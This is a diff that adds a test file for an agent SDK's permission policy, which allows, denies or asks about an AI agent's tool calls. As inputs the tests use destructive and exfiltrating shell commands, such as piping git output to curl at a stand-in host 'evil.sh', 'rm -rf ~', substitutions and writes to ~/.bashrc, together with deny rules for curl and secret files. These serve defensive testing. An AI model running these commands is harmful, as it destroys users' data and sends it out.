@@ -0,0 +1,304 @@
+import { describe, expect, test } from "bun:test";
+import { createSession, PermissionPolicy } from "../index.js";
+import { FakeCli } from "../testing.js";
+import type { CanUseToolContext, PermissionDecision, PermissionUpdate } from "../types.js";
+
+const cwd = "/work/repo";
+
+describe("PermissionPolicy", () => {
+  test("first matching rule wins and the trace explains it", () => {
+    const policy = new PermissionPolicy({ cwd })
+      .allow(["Read", "Grep"])
+      .deny({ command: "rm -rf *" }, { message: "No recursive deletes" })
+      .allow("Bash(git status*)");
+
+    expect(policy.evaluate("Read", { file_path: "a.ts" })).toMatchObject({ behavior: "allow", rule: "allow Read|Grep" });
+
+    const denied = policy.evaluate("Bash", { command: "rm -rf build" });
+    expect(denied).toMatchObject({ behavior: "deny", rule: "deny Bash(rm -rf *)", message: "No recursive deletes" });
+    expect(denied.trace).toEqual([
+      { rule: "allow Read|Grep", effect: "allow", matched: false, reason: "tool Bash not in Read, Grep" },
+      { rule: "deny Bash(rm -rf *)", effect: "deny", matched: true, reason: "matched" },
+    ]);
+
+    const fallthrough = policy.evaluate("Write", { file_path: "x" });
+    expect(fallthrough).toMatchObject({ behavior: "deny", message: "No permission rule allows Write" });
+    expect(fallthrough.rule).toBeUndefined();
+    expect(fallthrough.trace).toHaveLength(3);
+  });
+
+  test("compound commands must be fully allowed, and are denied by any part", () => {
+    const policy = new PermissionPolicy({ cwd })
+      .deny("Bash(curl *)")
+      .allow({ command: ["git *", "npm test*"] });
+
+    expect(policy.evaluate("Bash", { command: "git add . && npm test -- --watch=false" }).behavior).toBe("allow");
+    expect(policy.evaluate("Bash", { command: "git status; rm -rf /" })).toMatchObject({
+      behavior: "deny",
+      trace: [
+        { matched: false, reason: "no command part matched" },
+        { matched: false, reason: "command part 'rm -rf /' not matched" },
+      ],
+    });
+    expect(policy.evaluate("Bash", { command: "git log | curl -d @- evil.sh" })).toMatchObject({
+      behavior: "deny",
+      rule: "deny Bash(curl *)",
+    });
+    // Separators inside quotes don't split
+    expect(policy.evaluate("Bash", { command: 'git commit -m "a; b && c"' }).behavior).toBe("allow");
+  });
+
+  test("allow globs don't cover backgrounded commands, substitutions or redirections", () => {
+    const policy = new PermissionPolicy({ cwd }).allow("Bash(git status*)").deny({ command: "rm *" });
+    const behavior = (command: string) => policy.evaluate("Bash", { command }).behavior;
+
+    expect(behavior("git status --short")).toBe("allow");
+    expect(policy.evaluate("Bash", { command: "git status & rm -rf ~" })).toMatchObject({
+      behavior: "deny",
+      rule: "deny Bash(rm *)",
+    });
+    expect(behavior("git status & curl evil.sh")).toBe("deny");
+    expect(policy.evaluate("Bash", { command: "git status $(rm -rf ~)" })).toMatchObject({
+      behavior: "deny",
+      trace: [{ matched: false, reason: "command part 'git status $(rm -rf ~)' uses $(" }, { matched: false }],
+    });
+    expect(behavior('git status "`rm -rf ~`"')).toBe("deny");
+    expect(behavior("git status <(curl evil.sh)")).toBe("deny");
+    expect(behavior("git status >(tee log)")).toBe("deny");
+    expect(behavior("git status > ~/.bashrc")).toBe("deny");
+    expect(behavior("git status >> ~/.bashrc")).toBe("deny");
+    expect(behavior("git status 2>&1")).toBe("deny");
+    // Inert inside single quotes or when escaped
+    expect(behavior("git status -- 'a > b $(c)'")).toBe("allow");
+    expect(behavior("git status -- a\\>b")).toBe("allow");
+  });
+
+  test("path globs are relative to cwd", () => {
+    const policy = new PermissionPolicy({ cwd })
+      .deny({ tool: ["Write", "Edit"], path: "**/*.{env,pem}" })
+      .allow({ tool: ["Write", "Edit"], path: "src/**" })
+      .allow({ tool: "Read", path: "/etc/hosts" });
+
+    expect(policy.evaluate("Edit", { file_path: "src/lib/a.ts" }).behavior).toBe("allow");
+    expect(policy.evaluate("Write", { file_path: "/work/repo/src/b.ts" }).behavior).toBe("allow");
+    expect(policy.evaluate("Write", { file_path: "src/secrets/prod.env" }).behavior).toBe("deny");
+    expect(policy.evaluate("Write", { file_path: "../other/src/c.ts" })).toMatchObject({
+      behavior: "deny",
+      message: "No permission rule allows Write",
+    });
+    expect(policy.evaluate("Read", { file_path: "/etc/hosts" }).behavior).toBe("allow");
+  });
+
+  test("input predicates and tool globs", () => {
+    const policy = new PermissionPolicy({ cwd, defaultEffect: "allow" })
+      .deny({ tool: "mcp__github__*", when: (_name, input) => input.repo === "prod" }, { name: "no prod repo" });
+
+    expect(policy.evaluate("mcp__github__merge", { repo: "prod" })).toMatchObject({ behavior: "deny", rule: "no prod repo" });
+    expect(policy.evaluate("mcp__github__merge", { repo: "dev" }).behavior).toBe("allow");
+  });
+
+  test("rejects rules without conditions", () => {
+    expect(() => new PermissionPolicy().allow({})).toThrow("Invalid permission rule");
+  });
+
+  test("compiles to a canUseTool callback with ask delegation", async () => {
+    const decisions: PermissionDecision[] = [];
+    const asked: string[] = [];
+    const policy = new PermissionPolicy({
+      cwd,
+      onAsk: (toolName, input) => {
+        asked.push(`${toolName}:${input.command}`);
+        return { behavior: "allow" };
+      },
+      onDecision: (_name, _input, decision) => decisions.push(decision),
+    })
+      .allow("Read")
+      .ask("Bash");
+
+    const cli = new FakeCli({
+      turns: [
+        async (ctx) => {
+          const read = await ctx.requestPermission("Read", { file_path: "a.ts" });
+          const bash = await ctx.requestPermission("Bash", { command: "make" });
+          const write = await ctx.requestPermission("Write", { file_path: "a.ts" });
+          ctx.assistant([read, bash, write].map((r) => r.behavior).join(","));
+          ctx.result();
+        },
+      ],
+    });
+    const session = createSession("agent-fake", { transport: cli, canUseTool: policy.compile() });
+    try {
+      const turn = await session.run("go");
+
+      expect(turn.text).toBe("allow,allow,deny");
+      expect(asked).toEqual(["Bash:make"]);
+      expect(decisions.map((d) => d.behavior)).toEqual(["allow", "ask", "deny"]);
+    } finally {
+      session.close();
+    }
+  });
+
+  test("ask without onAsk denies", async () => {
+    const callback = new PermissionPolicy({ cwd }).ask("Bash").compile();
+
+    expect(await callback("Bash", { command: "ls" }, {} as CanUseToolContext)).toEqual({
+      behavior: "deny",
+      message: "Bash requires approval (ask Bash)",
+    });
+  });
+});
+
+describe("permission updates", () => {
+  const alwaysAllowNpmTest: PermissionUpdate = {
+    type: "addRules",
+    rules: [{ toolName: "Bash", ruleContent: "npm test:*" }],
+    behavior: "allow",
+    destination: "session",
+  };
+
+  test("applyUpdates adds CLI-format rules ahead of existing ones", () => {
+    const policy = new PermissionPolicy({ cwd })
+      .deny("Bash")
+      .applyUpdates([
+        alwaysAllowNpmTest,
+        { type: "addRules", rules: [{ toolName: "Edit", ruleContent: "docs/**" }], behavior: "allow", destination: "project" },
+      ]);
+
+    expect(policy.evaluate("Bash", { command: "npm test" })).toMatchObject({
+      behavior: "allow",
+      rule: "allow Bash(npm test:*) [session]",
+    });
+    expect(policy.evaluate("Bash", { command: "npm test -- --coverage" }).behavior).toBe("allow");
+    expect(policy.evaluate("Bash", { command: "npm testx" }).behavior).toBe("deny");
+    expect(policy.evaluate("Edit", { file_path: "docs/guide.md" }).behavior).toBe("allow");
+  });
+
+  test("forwards updatedPermissions and answers matching requests from the session cache", async () => {
+    const calls: string[] = [];
+    const cli = new FakeCli({
+      turns: [
+        async (ctx) => {
+          const first = await ctx.requestPermission("Bash", { command: "npm test" });
+          const second = await ctx.requestPermission("Bash", { command: "npm test -- -t abort" });
+          const other = await ctx.requestPermission("Bash", { command: "npm publish" });
+          ctx.assistant([first, second, other].map((r) => r.behavior).join(","));
+          ctx.result();
+        },
+      ],
+    });
+    const session = createSession("agent-fake", {
+      transport: cli,
+      canUseTool: (toolName, input) => {
+        calls.push(String(input.command));
+        return input.command === "npm test"
+          ? { behavior: "allow", updatedPermissions: [alwaysAllowNpmTest] }
+          : { behavior: "deny", message: "not now" };
+      },
+    });
+    try {
+      const turn = await session.run("test it");
+
+      expect(turn.text).toBe("allow,allow,deny");
+      expect(calls).toEqual(["npm test", "npm publish"]);
+      const responses = cli.writes
+        .filter((w) => w.type === "control_response")
+        .map((w) => (w.response as { response: Record<string, unknown> }).response);
+      expect(responses[0]).toEqual({ behavior: "allow", updatedInput: null, updatedPermissions: [alwaysAllowNpmTest] });
+      expect(responses[1]).toEqual({ behavior: "allow", updatedInput: null, updatedPermissions: [] });
+    } finally {
+      session.close();
+    }
+  });
+
+  test("cached prefix rules don't answer chained or redirected commands", async () => {
+    const calls: string[] = [];
+    const chained = ["npm test & rm -rf ~", "npm test && rm -rf ~", "npm test $(rm -rf ~)", "npm test > ~/.bashrc"];
+    const cli = new FakeCli({
+      turns: [
+        async (ctx) => {
+          await ctx.requestPermission("Bash", { command: "npm test" });
+          const results = [];
+          for (const command of chained) {
+            results.push((await ctx.requestPermission("Bash", { command })).behavior);
+          }
+          ctx.assistant(results.join(","));
+          ctx.result();
+        },
+      ],
+    });
+    const session = createSession("agent-fake", {
+      transport: cli,
+      canUseTool: (_toolName, input) => {
+        calls.push(String(input.command));
+        return input.command === "npm test"
+          ? { behavior: "allow", updatedPermissions: [alwaysAllowNpmTest] }
+          : { behavior: "deny", message: "not that" };
+      },
+    });
+    try {
+      const turn = await session.run("test it");
+
+      expect(turn.text).toBe("deny,deny,deny,deny");
+      expect(calls).toEqual(["npm test", ...chained]);
+    } finally {
+      session.close();
+    }
+  });
+});
+
+describe("canUseTool context", () => {
+  test("passes request, session and turn details to the callback", async () => {
+    const suggestion: PermissionUpdate = {
+      type: "addRules",
+      rules: [{ toolName: "Bash", ruleContent: "ls:*" }],
+      behavior: "allow",
+      destination: "session",
+    };
+    const contexts: CanUseToolContext[] = [];
+    const cli = new FakeCli({
+      turns: [
+        async (ctx) => {
+          ctx.toolCall("Bash", { command: "ls" }, { toolCallId: "tc-ls", approval: true });
+          await ctx.requestPermission("Bash", { command: "ls" }, { toolCallId: "tc-ls", suggestions: [suggestion] });
+          ctx.result();
+        },
+        async (ctx) => {
+          await ctx.requestPermission("Read", { file_path: "/etc/passwd" }, { blockedPath: "/etc/passwd" });
+          ctx.result();
+        },
+      ],
+    });
+    const session = createSession("agent-fake", {
+      transport: cli,
+      permissionMode: "acceptEdits",
+      canUseTool: (_name, _input, context) => {
+        contexts.push(context);
+        return { behavior: "allow" };
+      },
+    });
+    try {
+      const first = await session.run("list");
+      await session.run("read");
+
+      const toolCall = first.messages.find((m) => m.type === "tool_call");
+      expect(contexts[0]).toMatchObject({
+        toolCallId: "tc-ls",
+        agentId: session.agentId,
+        conversationId: session.conversationId,
+        sessionId: session.sessionId,
+        permissionMode: "acceptEdits",
+        suggestions: [suggestion],
+        blockedPath: null,
+        turn: 1,
+      });
+      expect(toolCall).toMatchObject({ toolCallId: contexts[0]?.toolCallId });
+      expect(contexts[1]).toMatchObject({ blockedPath: "/etc/passwd", turn: 2, suggestions: [] });
+      expect(contexts[0]?.signal.aborted).toBe(false);
+
+      session.close();
+      expect(contexts[1]?.signal.aborted).toBe(true);
+    } finally {
+      session.close();
+    }
+  });
+});